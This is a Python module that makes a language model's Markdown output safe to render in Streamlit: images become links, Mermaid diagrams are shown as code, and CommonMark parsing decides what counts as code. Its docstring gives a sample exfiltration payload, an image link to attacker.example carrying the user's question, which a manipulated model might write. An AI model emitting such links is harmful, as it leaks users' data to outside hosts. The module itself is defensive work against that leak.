"""Making a model's Markdown harmless: nothing in it is fetched unless a reader clicks it.

``st.markdown`` renders no HTML, but it fetches images and draws Mermaid diagrams, which fetch
images too. A model that was made to write ``![](https://attacker.example/?<what was asked>)`` would
send that away without a click. So images become links, and diagrams are shown as code.

A CommonMark parser decides what is code, and code stays as it is. Streamlit's dialect adds math,
directives, footnotes and addresses without brackets. Where one of them could make the browser see
code elsewhere, a backslash takes its meaning away, so that both parsers see the same code.
"""

from __future__ import annotations

import re
import textwrap
from bisect import bisect_right
from collections import defaultdict
from collections.abc import Iterable, Iterator, Mapping, Sequence
from functools import cache
from html import unescape
from itertools import accumulate
from typing import NamedTuple

from markdown_it import MarkdownIt

__all__ = ["parser", "safe"]

IMAGE = "!["
DIAGRAM = "mermaid"
DIAGRAMS = re.compile(r"(?:`{3}|~{3})[^\r\n]*(?:mermaid|&)", re.IGNORECASE)
LINE = re.compile(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+")
BLANK = re.compile(r"(?:\r\n?|\n)[ \t]*(?:\r\n?|\n)")
# What may stand in front of a block in its first line: quotations and list items.
CONTAINERS = r"[ \t>*+\d.)-]*"
FENCE = re.compile(rf"{CONTAINERS}(`{{3,}}(?=[^`]*$)|~{{3,}})")
# Display math, a directive, a footnote, HTML: blocks that the parser does not know, or not so well.
BLOCK = re.compile(
    rf"{CONTAINERS}(\${{2,}}(?=[^$]*$)|:{{2,}}|\[(?=\^)|<(?![a-z][\w.+-]*[:@])(?=[a-z/!?]))",
    re.IGNORECASE,
)
# A directive that Streamlit would drop with its text: all but its own, if they have one.
OWN = (
    r"(?:(?:red|orange|yellow|green|blue|violet|purple|gr[ae]y|primary|rainbow)"
    r"(?:-background|-badge)?|small|shimmer|help|color)"
)
DROPPED = rf":(?=[a-z][\w-]{{0,80}}[\[{{])(?!{OWN}\[[^\[\]\r\n]{{1,300}}\])|:(?={OWN}(?![\w\[{{-]))"
DROPS = re.compile(rf"^{CONTAINERS}::|{DROPPED}", re.IGNORECASE | re.MULTILINE)
# What follows in an address without brackets, if it may swallow what begins code; a long one may.
ADDRESS = r"(?=[^ \t\r\n<]{0,300}[`$!]|[^ \t\r\n<]{301})"
# An image, and what may hold a backtick that then begins no code.
INLINE = re.compile(
    rf"""\\.                                         # escaped: without a meaning
    | ( !\[(?=[ \t\r\n]*\]) | !(?=\[)               # an image, with its bracket if empty
    | (?P<dropped>{DROPPED})
    | \$                                             # math
    | :(?![\s/])                                     # a directive
    | \[(?=\^) | (?<=\])\[(?=[^\]]*`)               # a footnote, a reference
    | <(?=[a-z/!?])                                  # HTML
    | (?<=http|ttps):(?=//){ADDRESS} | (?<=www)\.{ADDRESS} )
    """,
    re.VERBOSE | re.IGNORECASE | re.DOTALL,
)
MATH = re.compile(r"\$\$[ \t]*\n[^$]*(?<=\n)[ \t]*\$\$")
# The line below a table's head. A table is cut at its bars before anything in it is code.
RULE = re.compile(r"(?=.*-)(?=.*[|:])[ \t>*+\d.)|:-]*$")
BAR = re.compile(r"[\r\n]|(?<!(?<!\\)\\)\|")
TICK = re.compile(r"\\.|(`)", re.DOTALL)

# Characters that stand for those with a meaning while the parser looks for code.
FIRST, LAST = 0xF0000, 0x10FFFD
STAND_IN = re.compile(f"[{chr(FIRST)}-{chr(LAST)}]")


def safe(markdown: str) -> str:
    r"""Return the text with nothing in it that a browser would fetch.

    An image gets a backslash: ``\![alt](url)`` is an exclamation mark and a link. A Mermaid
    diagram gets another language: ``text``. What Streamlit would drop, such as the ``[0]`` of
    ``a[i:n[0]]``, gets a backslash too. A text without any of them comes back as it is.
    """
    if not (IMAGE in markdown or DIAGRAMS.search(markdown) or DROPS.search(markdown)):
        return markdown
    # As Streamlit will do it: the browser is sent the text without common indentation.
    return _Text(textwrap.dedent(markdown).strip()).harmless()


@cache
def parser() -> MarkdownIt:
    """Return the parser; made when it is first needed."""
    return MarkdownIt("commonmark").enable("table")


class _Mark(NamedTuple):
    """Characters with a meaning, and what they begin: an image, a block, or something inline."""

    start: int
    end: int
    begins: str


class _Text:
    """A text, and where a parser finds code in it when every mark is escaped."""

    def __init__(self, source: str) -> None:
        self._source = source
        self._lines = LINE.findall(source)
        self._starts = [0, *accumulate(map(len, self._lines))]
        self._marks = _marks(source, self._lines, self._starts)
        tokens = parser().parse(_with_stand_ins(source, self._marks))
        blocks = [token for token in tokens if token.type in ("fence", "code_block")]
        self._fences = [block for block in blocks if block.type == "fence"]
        self._code_lines = {line for block in blocks for line in range(*(block.map or (0, 0)))}
        self._in_blocks = _numbers(block.content for block in blocks)
        self._in_spans = _numbers(
            child.content
            for token in tokens
            for child in token.children or ()
            if child.type == "code_inline"
        )
        self._paragraphs = [
            token.content for token in tokens if token.type == "inline" and token.level == 1
        ]
        # What is inline ends before a blank line.
        self._ends = [blank.end() for blank in BLANK.finditer(source)]
        self._prose: dict[int, list[int]] = defaultdict(list)
        for number, start in enumerate(self._starts[:-1]):
            if number not in self._code_lines:
                self._prose[self._region(start)].append(number)

    def harmless(self) -> str:
        """Return the text with the backslashes and the other languages that it needs."""
        images, blocks = self._that_begin("image"), self._that_begin("block")
        code = self._in_blocks | self._in_spans
        dropped = self._that_begin("dropped") | {n for n in blocks if self._is_directive(n)}
        # The word is enough: a footnote could make a diagram of what is code to the parser.
        if not (images & code or dropped - code or DIAGRAM in unescape(self._source).lower()):
            return self._with(self._escaped(images))
        regions = [self._region(mark.start) for mark in self._marks]
        kept = {regions[number] for number in images & self._in_spans}
        # Half of a code span is no code, if a line of it begins a block or a table is cut there.
        cut = {regions[number] for number in blocks & self._in_spans}
        cut |= {region for region in kept if self._may_be_cut(region)}
        code -= {number for number in self._in_spans if regions[number] in cut}
        beside = {n for n in self._that_begin("inline") if regions[n] in kept - cut}
        languages, fences = self._diagrams()
        escaped = images | dropped | beside | (blocks - self._whole_math())
        backslashes = {*self._escaped(escaped - code), *fences, *self._ticks(cut)}
        return self._with(backslashes, languages)

    def _that_begin(self, what: str) -> set[int]:
        return {number for number, mark in enumerate(self._marks) if mark.begins == what}

    def _is_directive(self, number: int) -> bool:
        return self._source[self._marks[number].start] == ":"

    def _region(self, position: int) -> int:
        return bisect_right(self._ends, position)

    def _may_be_cut(self, region: int) -> bool:
        """Tell whether a region may be a table, with half of a code span in a cell."""
        lines = [self._lines[number] for number in self._prose[region]]
        if not any(RULE.match(line.rstrip("\r\n")) for line in lines):
            return False
        cells = [cell for line in lines for cell in BAR.split(line) if "`" in cell]
        texts = [child for cell in cells for child in parser().parseInline(cell)[0].children or ()]
        return any("`" in text.content for text in texts if text.type == "text")

    def _ticks(self, regions: Iterable[int]) -> Iterator[int]:
        for number in (line for region in regions for line in self._prose[region]):
            for tick in TICK.finditer(self._lines[number]):
                if tick[1]:
                    yield self._starts[number] + tick.start(1)

    def _escaped(self, numbers: Iterable[int]) -> set[int]:
        """Return where the marks' characters are."""
        marks = [self._marks[number] for number in numbers]
        return {position for mark in marks for position in range(mark.start, mark.end)}

    def _with(self, backslashes: Iterable[int], languages: Mapping[int, int] | None = None) -> str:
        """Return the text with backslashes, and with other languages from here to there."""
        languages = languages or {}
        parts = []
        position = 0
        for at in sorted({*backslashes, *languages}):
            parts.append(self._source[position:at])
            position = languages.get(at, at)
            parts.append("text" if at in languages else "\\")
        return "".join([*parts, self._source[position:]])

    def _diagrams(self) -> tuple[dict[int, int], list[int]]:
        """Find where the languages of diagrams begin and end, and fences that the parser missed."""
        languages = {}
        for fence in self._fences:
            if fence.map and DIAGRAM in unescape(fence.info).lower():
                line = fence.map[0]
                end = self._starts[line] + len(self._lines[line].rstrip("\r\n"))
                languages[end - len(fence.info)] = end
        missed: list[int] = []
        for number, text in enumerate(self._lines):
            begins = FENCE.match(text) if number not in self._code_lines else None
            if begins and DIAGRAM in unescape(text).lower():
                missed += (self._starts[number] + at for at in range(*begins.span(1)))
        return languages, missed

    def _whole_math(self) -> set[int]:
        """Find display math that is all of a paragraph: no parser takes it for more."""
        return {
            number
            for paragraph in self._paragraphs
            if MATH.fullmatch(STAND_IN.sub(self._stood_for, paragraph))
            for number in _numbers([paragraph])
        }

    def _stood_for(self, stand_in: re.Match[str]) -> str:
        return self._source[self._marks[ord(stand_in[0]) - FIRST].start]


def _marks(source: str, lines: Sequence[str], starts: Sequence[int]) -> list[_Mark]:
    marks = []
    for line, start in zip(lines, starts, strict=False):
        if block := BLOCK.match(line):
            marks.append(_Mark(start + block.start(1), start + block.end(1), "block"))
    taken = {at for mark in marks for at in range(mark.start, mark.end)}
    for inline in INLINE.finditer(source):
        if inline[1] and inline.start(1) not in taken:
            what = "image" if inline[1].startswith("!") else "inline"
            marks.append(_Mark(*inline.span(1), "dropped" if inline["dropped"] else what))
    return marks


def _with_stand_ins(source: str, marks: Sequence[_Mark]) -> str:
    characters = list(STAND_IN.sub("x", source))
    for number, mark in enumerate(marks):
        # Beyond the last no mark is known again, and none is taken for code.
        stand_in = chr(min(FIRST + number, LAST + 1))
        characters[mark.start : mark.end] = stand_in * (mark.end - mark.start)
    return "".join(characters)


def _numbers(texts: Iterable[str]) -> set[int]:
    """Return which marks have stand-ins in the texts."""
    return {ord(each) - FIRST for text in texts for each in STAND_IN.findall(text)}
